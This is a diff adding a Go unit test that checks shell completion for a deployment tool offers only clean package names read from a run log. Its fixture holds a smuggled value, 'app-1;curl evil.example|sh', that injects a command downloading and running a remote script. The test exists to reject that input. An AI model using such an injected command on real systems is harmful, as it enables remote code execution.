@@ -1,0 +1,24 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/keep-it-simple/kis/internal/event"
+)
+
+// TestCompletionOffersPackagesOnly: shells paste what it offers, and the log of a run has what hosts have said.
+func TestCompletionOffersPackagesOnly(t *testing.T) {
+	t.Parallel()
+	path := filepath.Join(t.TempDir(), "run.jsonl")
+	line, err := jsonLine(event.Event{Type: event.TypeReport, Report: &event.Report{Stage: "live", Package: "app-2", Hosts: []event.HostReport{
+		{Was: "app-1"}, {Was: "app-1;curl evil.example|sh"}, {Was: "x\napp-3"}, {},
+	}}})
+	require.NoError(t, err)
+	require.NoError(t, os.WriteFile(path, line, 0o600))
+	assert.Equal(t, []string{"app-2", "app-1"}, packagesOf(path, "live"))
+}
